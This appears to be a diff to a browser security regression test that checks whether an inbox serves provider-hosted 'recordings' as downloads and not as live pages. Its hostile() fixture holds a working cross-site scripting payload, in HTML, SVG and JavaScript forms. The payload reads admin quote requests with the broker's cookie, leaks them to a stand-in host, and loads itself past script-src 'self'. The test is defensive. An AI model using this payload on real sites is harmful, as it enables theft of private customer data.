@@ -1,11 +1,13 @@
 // The security review's recording steps in Chromium against the release backend, signed in to the
 // inbox: the provider's storage (a stand-in on loopback, listed in RECORDING_ORIGINS by address)
-// holds, as "recordings", an HTML page and an SVG whose scripts read /api/admin/quote-requests
-// with the broker's cookie and send what they read back to the stand-in, and the same script
-// served as JavaScript. The backend copies them; opened in the signed-in browser, each copy is a
-// download, never a page, and the script copy does not run as a script of the site even when a
-// page of the site's own asks for it. The inbox links no provider address but an absolute https
-// one (not a site-relative, javascript: or http: one) and plays only the site's copy.
+// holds, as "recordings", a script that reads /api/admin/quote-requests with the broker's cookie,
+// served as JavaScript, and an HTML page and an SVG that load that script's copy from the site
+// itself (past `script-src 'self'`, as the review's did). The backend copies them; opened in the
+// signed-in browser, each copy is a download, never a page, and the script copy does not run as a
+// script of the site even when a page of the site's own asks for it. (Against the copies served
+// as before, inline and with the host's type, this test fails: the page copy runs and reads the
+// leads.) The inbox links no provider address but an absolute https one (not a site-relative,
+// javascript: or http: one) and plays only the site's copy.
 import { createServer } from 'node:http';
 import { ADMIN_PASSWORD_HASH, signIn } from './support/inbox.mjs';
 import { startServer } from './support/server.mjs';
@@ -14,20 +16,22 @@ import { expect, test } from './support/test.mjs';
 const VOICE_SECRET = 'e2e-voice-secret-0123456789abcdef01';
 
 /**
- * What the review stored: each reads the leads with the broker's cookie and sends them to
- * `leak`, the stand-in's counter of what got out.
+ * What the review stored: a script that reads the leads with the broker's cookie, marks the page
+ * (`window.leaked`) and sends what it read to `leak`, the stand-in's counter of what got out; an
+ * HTML page and an SVG that load that script's copy from the site itself, past `script-src 'self'`.
  */
 function hostile(leak) {
   const steal = `window.leaked = true; fetch('/api/admin/quote-requests').then((r) => r.text())
     .then((text) => { new Image().src = '${leak}?' + encodeURIComponent(text.slice(0, 200)); });`;
+  const script = '/api/admin/conversations/call-script/recording';
   return {
     '/recordings/page.wav': [
       'text/html',
-      `<!doctype html><title>ran</title><script>${steal}</script>`,
+      `<!doctype html><title>ran</title><script src="${script}"></script>`,
     ],
     '/recordings/image.wav': [
       'image/svg+xml',
-      `<svg xmlns="http://www.w3.org/2000/svg"><script>${steal}</script></svg>`,
+      `<svg xmlns="http://www.w3.org/2000/svg"><script href="${script}"/></svg>`,
     ],
     '/recordings/script.wav': ['application/javascript', steal],
   };
@@ -142,11 +146,12 @@ test.describe('recordings in the inbox', () => {
     for (const callId of ['call-page', 'call-image']) {
       const address = new URL(`/api/admin/conversations/${callId}/recording`, server.url).href;
       const [download] = await Promise.all([
-        page.waitForEvent('download'),
+        page.waitForEvent('download', { timeout: 10_000 }).catch(() => null),
         page.goto(address).catch((error) => error),
       ]);
-      expect(download.url()).toBe(address);
+      expect(await page.evaluate(() => window.leaked ?? false), `${callId} ran`).toBe(false);
       expect(page.url(), 'still on the inbox').toBe(inbox);
+      expect(download?.url(), `${callId} downloaded`).toBe(address);
       await download.cancel();
     }
 
